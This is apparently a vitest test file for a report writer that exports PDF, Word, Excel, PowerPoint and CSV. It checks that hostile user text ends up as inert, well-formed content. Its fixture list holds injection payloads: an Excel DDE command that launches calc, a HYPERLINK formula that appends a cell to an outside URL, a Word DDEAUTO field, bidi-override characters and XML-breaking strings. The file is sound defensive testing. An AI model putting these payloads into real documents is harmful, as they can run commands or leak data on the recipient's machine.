import { PassThrough } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { unzip } from '@cj-tech-master/excelts/archive'
import { parse } from 'csv-parse/sync'
import { getDocumentProxy } from 'unpdf'
import { describe, expect, it } from 'vitest'
import { REPORT_FORMATS, type ReportFormat } from '#shared/domain/report-options.ts'
import { openPackage } from '#tests/support/office-package.ts'
import { reportTexts } from '#tests/support/report-texts.ts'
import { SAMPLE_NOW, sampleRequest, sampleSource } from '#tests/support/sample-report.ts'
import { assembleReport } from './assemble.ts'
import type { ReportSource } from './model.ts'
import { writeTableCsv } from './tables/index.ts'
import { writeReport } from './write-report.ts'
import { writtenBytes } from './written-bytes.ts'

/** Texts that people could enter, and a part of each that every file has to show as it is. */
const HOSTILE = [
  { what: 'a command of Excel', text: "=cmd|'/c calc'!A1", shown: "=cmd|'/c calc'!A1" },
  { what: 'a link that sends cells away', text: '=HYPERLINK("https://example.org/"&A1)', shown: 'HYPERLINK' },
  { what: 'a plus', text: '+252610000000', shown: '+252610000000' },
  { what: 'a minus', text: '-2+3', shown: '-2+3' },
  { what: 'an at sign', text: '@SUM(1+1)', shown: '@SUM(1+1)' },
  { what: 'a tab before a formula', text: '\t=1+1', shown: '=1+1' },
  { what: 'a line break before a formula', text: '\r\n=2+2', shown: '=2+2' },
  { what: 'control characters', text: 'zero\u0000bell\u0007escape\u001bend', shown: 'zero' },
  { what: 'half of a character', text: 'half \ud800 of', shown: 'half' },
  { what: 'what is no character', text: 'none \ufffe\uffff here', shown: 'none' },
  {
    what: 'an order to turn digits around',
    text: 'killed \u202e2147\u202c people',
    shown: 'killed 2147 people',
  },
  { what: 'isolates that stay open', text: '\u2067open \u2066 98.7', shown: 'open' },
  { what: 'XML', text: '</w:t></si>]]><f>1</f>&lt;&amp;<!--', shown: ']]><f>1</f>&lt;&amp;<!--' },
  { what: 'an escape of Excel', text: 'a_x0041_b', shown: 'a_x0041_b' },
  { what: 'a field of Word', text: '{ DDEAUTO c:\\windows "calc" }', shown: 'DDEAUTO' },
  { what: 'a placeholder of ours', text: '{number} {from} {{count}}', shown: '{number} {from} {{count}}' },
  { what: 'a word without end', text: 'x'.repeat(10_000), shown: 'xxxxxxxx' },
  { what: 'pictures and joined characters', text: 'sign 👩🏽‍⚕️ end', shown: 'sign' },
  { what: 'Arabic beside Latin', text: 'case قضية 2026 end', shown: 'قضية' },
] as const

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what no file may hold.
const FORBIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\u202a-\u202e\u2066-\u2069]/

/** PDF.js gives the dots of Arabic letters, which are glyphs of their own, as control characters; `pdf/writer.test.ts` has Arabic. */
const textsFor = (format: ReportFormat) =>
  format === 'pdf' ? HOSTILE.filter(({ shown }) => !/\p{Script=Arabic}/u.test(shown)) : HOSTILE

function hostileSource(texts: ReturnType<typeof textsFor>): ReportSource {
  const source = sampleSource({ cases: texts.length, recommendations: texts.length, incidents: 0 })
  async function* titled<Row>(rows: AsyncIterable<Row>): AsyncGenerator<Row> {
    let index = 0
    for await (const row of rows) yield { ...row, title: texts[index++]?.text ?? '' }
  }
  const { 'iccpr-cases': cases, 'upr-recommendations': recommendations } = source.rows
  return {
    ...source,
    highlights: async (period) => {
      const { caseStudies, ...others } = await source.highlights(period)
      const [study] = caseStudies ?? []
      if (!study) throw new Error('The sample has no case study')
      return {
        ...others,
        caseStudies: texts.slice(0, 10).map(({ text }) => ({ ...study, title: text, summary: text })),
      }
    },
    rows: {
      ...source.rows,
      'iccpr-cases': (...days) => titled(cases(...days)),
      'upr-recommendations': (...days) => titled(recommendations(...days)),
    },
  }
}

async function hostileReport(format: ReportFormat): Promise<Buffer> {
  const texts = textsFor(format)
  const all = texts.map(({ text }) => text.slice(0, 100)).join(' ')
  const request = sampleRequest({ format, reportTitle: all.slice(0, 200), description: all })
  const data = await assembleReport(request, hostileSource(texts), {
    author: all.slice(0, 100),
    now: SAMPLE_NOW,
  })
  return writtenBytes((target) => writeReport(data, format, target))
}

async function expectNothingActive(file: Buffer): Promise<void> {
  const pdf = await getDocumentProxy(new Uint8Array(file))
  expect(await pdf.getJSActions()).toBeNull()
  expect(await pdf.getAttachments()).toBeNull()
}

async function expectNothingRuns(file: Buffer): Promise<void> {
  const opened = await openPackage(file)
  const parts = opened.names.filter((name) => name.endsWith('.xml'))
  for (const part of parts) {
    for (const element of ['f', 'w:fldSimple', 'ddeLink', 'oleLink']) {
      // Formulas of ours begin with a function over cells.
      for (const found of opened.all(part, element))
        expect(JSON.stringify(found)).not.toMatch(/cmd|HYPERLINK|DDE|1\+1/)
    }
    for (const found of opened.all(part, 'w:instrText')) expect(JSON.stringify(found)).not.toMatch(/DDE/)
  }
  for await (const entry of unzip(new Uint8Array(file)).entries()) {
    if (/\.rels$/.test(entry.path))
      expect(new TextDecoder().decode(await entry.bytes())).not.toContain('example.org')
  }
}

const squeezed = (text: string) => text.normalize('NFC').replace(/\s+/g, '')

describe.each(REPORT_FORMATS)('a report as %s', (format) => {
  it('stays a well-formed file whatever people wrote, and shows it', { timeout: 60_000 }, async () => {
    const file = await hostileReport(format)
    await (format === 'pdf' ? expectNothingActive(file) : expectNothingRuns(file))
    const text = await reportTexts(file, format)
    expect(text.match(FORBIDDEN)?.[0]).toBeUndefined()
    expect(text.isWellFormed()).toBe(true)
    const said = squeezed(format === 'excel' ? text.replaceAll('_x005F_', '_') : text)
    // Slides name annexes instead of holding them, so only the case studies stand there.
    const seen = format === 'powerpoint' ? HOSTILE.slice(0, 10) : textsFor(format)
    for (const { what, shown } of seen) expect.soft(said.includes(squeezed(shown)), what).toBe(true)
  })
})

it('a CSV file has no cell that a spreadsheet would run', async () => {
  const target = new PassThrough()
  const columns = [{ header: 'Title', kind: 'text' as const, value: (text: string) => text }]
  const rows = HOSTILE.map(({ text }) => text)
  const [file] = await Promise.all([buffer(target), writeTableCsv(columns, rows, target)])
  const cells: string[][] = parse(file, { bom: true, relax_column_count: true })
  expect(cells).toHaveLength(1 + HOSTILE.length)
  for (const [cell] of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
})
